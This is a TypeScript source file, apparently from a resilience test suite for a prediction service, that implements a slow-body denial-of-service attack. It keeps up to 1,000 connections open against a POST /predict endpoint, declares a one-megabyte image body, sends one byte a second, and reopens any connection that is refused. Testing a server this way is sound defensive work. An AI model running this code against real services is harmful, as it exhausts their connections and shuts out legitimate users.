import { head } from '../../support/raw-connection.js';
import { type Attack, pause, repeat, Tally, type Target } from './attack.js';
import { type AttackSocket, withSockets } from './sockets.js';

const BODIES = 1000;
const BYTE_INTERVAL_MS = 1000;

/** Keeps as many connections as it can, each of which has sent a head and sends the rest a byte a second. */
export async function sendSlowly(
  count: number,
  beginning: string,
  byte: string,
  target: Target,
  signal: AbortSignal,
): Promise<Tally> {
  const tally = new Tally();
  await withSockets(target, signal, async (sockets) => {
    const slow: (AttackSocket | undefined)[] = Array.from({ length: count });
    const tend = async (index: number): Promise<void> => {
      const socket = slow[index];
      if (socket?.isOver) {
        tally.add(socket.outcome);
        socket.destroy();
      }
      if (socket === undefined || socket.isOver) {
        slow[index] = await sockets.open();
        await slow[index]?.write(beginning, signal);
      } else await socket.write(byte, signal);
    };
    await repeat(1, signal, async () => {
      await Promise.all([...slow.keys()].map(tend));
      await pause(BYTE_INTERVAL_MS, signal);
    });
    for (const socket of slow) if (socket !== undefined) tally.add(socket.outcome);
  });
  return tally;
}

export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: '1,000 bodies of a byte a second; who is refused comes back',
  run: (target, signal) =>
    sendSlowly(
      BODIES,
      head('POST', '/predict', { 'content-type': 'image/png', 'content-length': 1_000_000 }),
      '\x89',
      target,
      signal,
    ),
};
